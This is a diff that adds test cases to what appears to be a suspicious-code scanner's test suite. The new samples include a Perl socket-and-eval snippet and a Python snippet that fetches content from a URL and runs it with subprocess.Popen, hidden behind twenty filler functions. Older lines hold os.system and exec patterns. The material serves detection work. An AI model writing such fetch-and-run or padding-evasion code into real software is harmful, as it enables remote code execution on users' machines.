@@ -90,6 +90,13 @@ def test_sees(mark, name, text):
         ("a.py", "import socket, subprocess\ns.recv(9)\nsubprocess.run(['ls'])\n"),
         ("a.py", "import os\nos.system('ls ' + os.environ['HOME'])\n"),
         ("a.py", "x = StringIO()\nexec(compile(x.getvalue(), 'a', 'exec'))\n# chr("),
+        ("a.pl", "use Socket; my ($a, $b) = f('a text that is long enough'); eval \"$a pack(\";\n"),
+        (
+            "a.py",
+            "import subprocess\n"
+            + "".join(f"def f{n}(): pass\n" for n in range(20))
+            + "a = urlopen('http://example.org').read()\nsubprocess.Popen(a)\n",
+        ),
         ("a.txt", "system(param('c'))"),
     ],
 )
